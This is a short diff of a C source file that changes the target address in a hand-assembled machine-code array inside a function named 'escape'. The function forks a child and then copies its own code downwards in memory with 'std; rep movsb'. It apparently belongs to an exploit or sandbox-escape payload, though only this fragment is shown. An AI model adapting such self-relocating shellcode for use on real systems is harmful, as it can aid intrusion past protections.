@@ -136,7 +136,7 @@ static void escape(char bomb) {
     if (bomb) child();
     if (read(0, &flag, 1) < 0) _exit(9);
     static const unsigned char code[] = {
-        0xbf, 0xff, 0x1f, 0x00, 0x50,  // mov edi, 0x50001fff
+        0xbf, 0xff, 0x1f, 0x00, 0x5b,  // mov edi, 0x5b001fff
         0xb9, 0x00, 0x20, 0x00, 0x00,  // mov ecx, 0x2000
         0xfd, 0xf3, 0xa4,              // std; rep movsb: downwards, so that all is there when
         0xfc, 0xc3,                    // the copy comes to its own place
